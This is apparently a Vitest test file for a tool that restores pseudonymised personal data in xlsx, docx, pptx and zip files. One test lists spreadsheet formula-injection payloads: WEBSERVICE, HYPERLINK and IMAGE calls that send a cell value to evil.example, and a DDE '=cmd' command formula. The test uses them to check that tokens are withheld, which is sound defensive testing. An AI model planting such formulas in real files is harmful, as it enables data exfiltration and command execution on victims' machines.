import type { PyodideInterface } from "pyodide";
import { beforeAll, describe, expect, test } from "vitest";
import { z } from "zod";
import { unmaskFile } from "../../lib/browser/unmask/file.ts";
import { mapping, pairs } from "../support/mapping.ts";
import { bootPyodide } from "../support/pyodide.ts";

let python: PyodideInterface;
beforeAll(async () => {
  python = await bootPyodide(() => undefined);
});

const tokens = Object.keys(pairs).filter((token) => !/^\d/.test(token));
/** A run of text in an office file has no line ends. */
const values = tokens.map((token) => (mapping.original(token) ?? "").replace(/[\n\u2028]+/g, " "));

const office = () => python.pyimport("office");
const made = (kind: string, what: unknown): Uint8Array<ArrayBuffer> => Uint8Array.from(office().make(kind, JSON.stringify(what)).toJs());
const found = (kind: string, bytes: Uint8Array): unknown => JSON.parse(office().read(kind, bytes));
const members = (bytes: Uint8Array) => z.record(z.string(), z.string()).parse(JSON.parse(office().members(bytes)));
const Book = z.object({
  sheets: z.record(z.string(), z.array(z.array(z.unknown()))),
  types: z.record(z.string(), z.array(z.array(z.string()))),
  comments: z.array(z.string()),
  tables: z.array(z.array(z.string())),
});

async function unmasked(name: string, bytes: Uint8Array): Promise<Uint8Array> {
  const out = await unmaskFile(name, bytes, mapping);
  expect(out.type).toBe("unmasked");
  return out.bytes;
}

describe("office files of the libraries that code uses, read back by them", () => {
  test("a workbook of openpyxl: cells, headers of a table, whole numbers, names of sheets and their formulas, comments", async () => {
    const before = made("openpyxl", tokens);
    const after = await unmasked("people.xlsx", before);
    const { sheets, types, comments, tables } = Book.parse(found("openpyxl", after));
    expect(Object.keys(sheets)).toEqual(["Ann Lee", "sums"]);
    expect(sheets["Ann Lee"]).toEqual([["name", "Ann Lee", "id"], ...values.map((value, at) => [value, at, at % 2 ? "00412" : 1001])]);
    expect(tables).toEqual([["name", "Ann Lee", "id"]]);
    expect(comments).toEqual(["about Ann Lee"]);
    expect(sheets.sums).toEqual([
      ["=SUM('Ann Lee'!B2:B4)"],
      [`=COUNTIF(A3:A9,"Zoë O'Neil & Søns <hr>")`],
      ['=HYPERLINK("http://e.example/?q=person_7F3K2Q9M","see")'],
    ]);
    expect(types["Ann Lee"]?.flat().filter((type) => type === "f")).toEqual([]);
    const [then, now] = [members(before), members(after)];
    const same = Object.keys(then).filter((name) => then[name] === now[name]);
    console.log(`openpyxl: ${same.length} of ${Object.keys(then).length} files of the workbook are byte for byte what they were`);
    expect(Object.keys(now)).toEqual(Object.keys(then));
    expect(same).toEqual(expect.arrayContaining(["xl/styles.xml", "xl/theme/theme1.xml", "[Content_Types].xml", "_rels/.rels"]));
  });

  test("a workbook of xlsxwriter: shared strings, numbers, a chart", async () => {
    const after = await unmasked("people.xlsx", made("xlsxwriter", tokens));
    const { sheets } = Book.parse(found("xlsxwriter", after));
    expect(sheets.data?.map(([first]) => first)).toEqual(values);
    expect(sheets.data?.slice(0, 2).map(([, second]) => second)).toEqual(["00412", 1001]);
  });

  test("a document: headings, paragraphs, cells, its title", async () => {
    const after = await unmasked("letter.docx", made("docx", tokens));
    expect(found("docx", after)).toEqual({ texts: values.flatMap((value) => [value, `of ${value}.`]), cell: "Ann Lee", title: "Ann Lee" });
  });

  test("slides: a title, a chart, and the workbook behind the chart", async () => {
    const after = await unmasked("talk.pptx", made("pptx", tokens));
    expect(found("pptx", after)).toMatchObject({
      title: "Ann Lee",
      categories: values,
      series: values[1],
      behind: { Sheet1: [[null, values[1]], ...values.map((value) => [value, 1])] },
    });
  });

  test.each([
    '=WEBSERVICE("http://evil.example/?"&A1)',
    '=HYPERLINK("http://evil.example/?"&A1)',
    '=IMAGE("http://evil.example/"&A1)',
    "=cmd|' /C calc'!A0",
    "=[1]Sheet1!A1",
  ])("a workbook whose formula could send a value away keeps its tokens: %s", async (formula) => {
    const bytes = made("fetching", formula);
    expect(await unmaskFile("a.xlsx", bytes, mapping)).toEqual({ type: "pseudonyms", bytes });
  });

  test("a workbook without a token stays byte for byte", async () => {
    const bytes = made("openpyxl", ["plain", "words"].concat(["only"]));
    const nothingKnown = new (await import("../../lib/policy/mask.ts")).Mapping([["person_00000000", "Nobody"]]);
    expect(await unmaskFile("a.xlsx", bytes, nothingKnown)).toEqual({ type: "as-is", bytes });
  });

  test("a zip: each file by its own kind, names too; what cannot be rewritten is told", async () => {
    const zip = (files: Record<string, string>) => Uint8Array.from(office().zipped(JSON.stringify(files)).toJs());
    const files = { "by/person_7F3K2Q9M.csv": "a\nperson_HHHH0005\n", "plain.txt": "nothing here", "x.json": '["person_2B4C6D8F"]' };
    const after = await unmasked("all.zip", zip(files));
    expect(JSON.parse(office().texts(after))).toEqual({
      "by/Ann Lee.csv": 'a\n"\'=HYPERLINK(""http://evil.example"")"\n',
      "plain.txt": "nothing here",
      "x.json": JSON.stringify([pairs.person_2B4C6D8F]),
    });
    const mixed = await unmaskFile("all.zip", zip({ ...files, "model.pkl": "person_7F3K2Q9M" }), mapping);
    expect(mixed.type).toBe("mixed");
    expect(JSON.parse(office().texts(mixed.bytes))).toMatchObject({
      "model.pkl": "person_7F3K2Q9M",
      "x.json": JSON.stringify([pairs.person_2B4C6D8F]),
    });
  });
});
